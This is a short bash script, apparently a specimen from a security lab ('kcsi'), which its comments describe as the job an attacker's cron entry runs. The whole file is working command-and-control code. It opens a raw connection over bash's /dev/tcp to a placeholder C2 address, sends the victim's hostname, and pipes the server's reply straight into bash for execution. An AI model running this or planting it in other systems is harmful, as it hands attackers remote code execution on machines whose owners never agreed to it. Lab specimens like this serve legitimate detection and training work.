#!/bin/bash
# kcsi lab specimen: the job the attacker's cron line runs: fetch and run orders from the
# C2 @@C2@@ (127.x) over bash's /dev/tcp.
exec 3<>/dev/tcp/@@C2_ADDR@@/@@C2_PORT@@ || exit 0
printf 'GET /o?h=%s HTTP/1.0\r\n\r\n' "$(hostname)" >&3
sed '1,/^\r$/d' <&3 | bash
